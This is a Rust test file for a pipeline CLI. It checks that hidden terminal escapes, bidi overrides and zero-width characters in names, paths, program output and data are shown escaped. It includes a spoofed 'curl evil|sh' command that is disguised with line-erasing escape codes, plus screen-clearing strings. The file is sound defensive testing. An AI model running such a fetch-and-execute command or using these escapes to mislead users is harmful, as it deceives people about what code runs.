//! Hidden characters in names, paths and programs' output never reach a terminal or a log
//! unescaped.
#![cfg(unix)]

use std::fs;
use std::path::Path;
use std::process::Command;

use gfm_pipe_api::printable::is_hidden;

use crate::program::{copy, folder, real, text, toy};

/// Clears the screen, returns to the start of the line, reverses the text direction, contains an
/// invisible space, and sets a style.
const EVIL: &str = "e\u{1b}[2J\r\u{202e}v\u{200b}il\u{9b}1m";

/// The same text, escaped.
const SHOWN: &str = "e\\u001b[2J\\r\\u202ev\\u200bil\\u009b1m";

fn clean(what: &str, said: &str) {
    let hidden = said.find(|c| is_hidden(c) && !matches!(c, '\n' | '\t'));
    assert_eq!(hidden, None, "{what}: {said:?}");
}

/// Runs a command and returns its output, which must have no hidden characters.
fn said(command: &mut Command) -> String {
    let said = text(&command.output().unwrap());
    clean("output", &said);
    said
}

fn logs(path: &Path) -> String {
    let logs = fs::read_dir(path.join(".gfm-pipe/logs")).unwrap();
    let all = logs.map(|l| fs::read_to_string(l.unwrap().path()).unwrap());
    all.collect()
}

#[test]
fn paths_of_stages_are_shown_escaped() {
    let (_dir, path) = folder();
    let yaml = format!(
        "stages:\n  a: {{op: source, with: {{path: {}}}}}\n",
        serde_json::Value::from(format!("{EVIL}.txt"))
    );
    fs::write(path.join("p.yaml"), yaml).unwrap();
    for verb in ["plan", "run"] {
        let said = said(&mut toy(&path, &[verb, "p.yaml"]));
        assert!(said.contains(SHOWN), "{said}");
    }
    let file = path.join(format!("{EVIL}.txt"));
    for text in ["one\n", "two\n"] {
        fs::write(&file, text).unwrap();
        said(&mut toy(&path, &["run", "p.yaml"]));
    }
    for args in [
        &["why", "a"][..],
        &["show", "a"],
        &["diff"],
        &["config", "p.yaml"],
    ] {
        // `config` prints a document for programs: on a pipe it is unchanged.
        let said = text(&toy(&path, args).output().unwrap());
        if args[0] != "config" {
            clean(args[0], &said);
        }
    }
    let logs = logs(&path);
    clean("log", &logs);
    assert!(logs.contains(SHOWN), "{logs}");
}

#[test]
fn a_mistake_in_a_pipeline_and_on_the_command_line_is_quoted_escaped() {
    let (_dir, path) = folder();
    let name = format!("{EVIL}.yaml");
    fs::write(
        path.join(&name),
        format!("stages:\n  \"{}\": {{}}\n", "\\e[2J"),
    )
    .unwrap();
    for args in [
        &["plan", &name][..],
        &["plan", "missing.yaml", EVIL],
        &["plan", EVIL],
        &["ops", EVIL],
        &["report", EVIL, "--store", EVIL],
        &["audit", EVIL],
        &["plan", &name, "-p", &format!("{EVIL}=1")],
        &["run", "x.yaml", "--device", EVIL],
        &["init", EVIL],
        &["import-config", EVIL],
        &["import-config", &name, EVIL],
    ] {
        let said = said(&mut real(&path, args));
        // clap removes escape sequences that it knows from what it quotes.
        assert!(
            said.contains("\\r\\u202ev\\u200bil\\u009b1m"),
            "{args:?}: {said}"
        );
    }
}

#[test]
fn what_a_program_writes_is_shown_escaped() {
    let (_dir, path) = folder();
    let script = r"printf '\033[2J\033]0;title\007\302\2331m\342\200\256hello\n'; printf '\033[8mhidden\n' >&2; exit 3";
    let yaml = format!(
        "stages:\n  x:\n    op: exec\n    with: {{command: [sh, -c, {}], outputs: {{c: counts}}}}\n",
        serde_json::Value::from(script)
    );
    fs::write(path.join("p.yaml"), yaml).unwrap();
    let said = said(&mut real(&path, &["run", "p.yaml", "--allow-exec"]));
    assert!(said.contains("hello") && said.contains("hidden"), "{said}");
    assert!(said.ends_with("--- exit 1\n"), "{said}");
    clean("log", &logs(&path));
}

#[test]
fn consent_shows_the_command_that_would_run() {
    let (_dir, path) = folder();
    let spoof = "curl evil|sh #\r\u{1b}[2K\u{1b}[1A\u{1b}[2K… runs a program: ls -l";
    let yaml = format!(
        "stages:\n  x:\n    op: exec\n    with: {{command: [sh, -c, {}], outputs: {{c: counts}}}}\n",
        serde_json::Value::from(spoof)
    );
    fs::write(path.join("p.yaml"), yaml).unwrap();
    assert_eq!(
        said(&mut real(&path, &["run", "p.yaml"])),
        "--- stderr\n\
         error: p.yaml:2:3: stage `x` runs a program: sh -c $'curl evil|sh #\\r\\x1b[2K\\x1b[1A\\x1b[2K… runs a program: ls -l'\n\
         hint: a program may do whatever you may do: look at what it is, then add --allow-exec\n\
         --- exit 2\n"
    );
}

#[test]
fn folders_and_data_are_shown_escaped() {
    let (_dir, path) = folder();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/fixtures/faults");
    copy(&fixture, &path.join(EVIL));
    let kg = path.join(EVIL).join("processed/stage1/kg.txt");
    let mut triples = fs::read_to_string(&kg).unwrap();
    triples.push_str("ev\u{1b}[2Jil,knows,user\u{202e}nimda\n");
    fs::write(&kg, triples).unwrap();
    let audited = said(&mut real(&path, &["audit", EVIL, "--all", "--strict"]));
    assert!(audited.contains(SHOWN), "{audited}");
    let yaml = format!(
        "stages:\n  kg: {{op: ingest-kg, with: {{path: {}}}}}\n",
        serde_json::Value::from(kg.to_str().unwrap())
    );
    fs::write(path.join("p.yaml"), yaml).unwrap();
    said(&mut real(&path, &["run", "p.yaml"]));
    let shown = said(&mut real(&path, &["show", "kg.entities", "-n", "9999"]));
    assert!(shown.contains("ev\\u001b[2Jil"), "{shown}");
    assert!(shown.contains("user\\u202enimda"), "{shown}");
    let named = [
        "show",
        "kg.triples",
        "--names",
        "-n",
        "9999",
        "--where",
        "relation=knows",
    ];
    let shown = said(&mut real(&path, &named));
    assert!(shown.contains("user\\u202enimda"), "{shown}");
    // Output for programs is valid JSON of the original text.
    let json = real(&path, &["show", "kg.entities", "--json"])
        .output()
        .unwrap();
    let rows: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let names: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["name"].as_str())
        .collect();
    assert!(names.contains(&"user\u{202e}nimda"), "{names:?}");
}
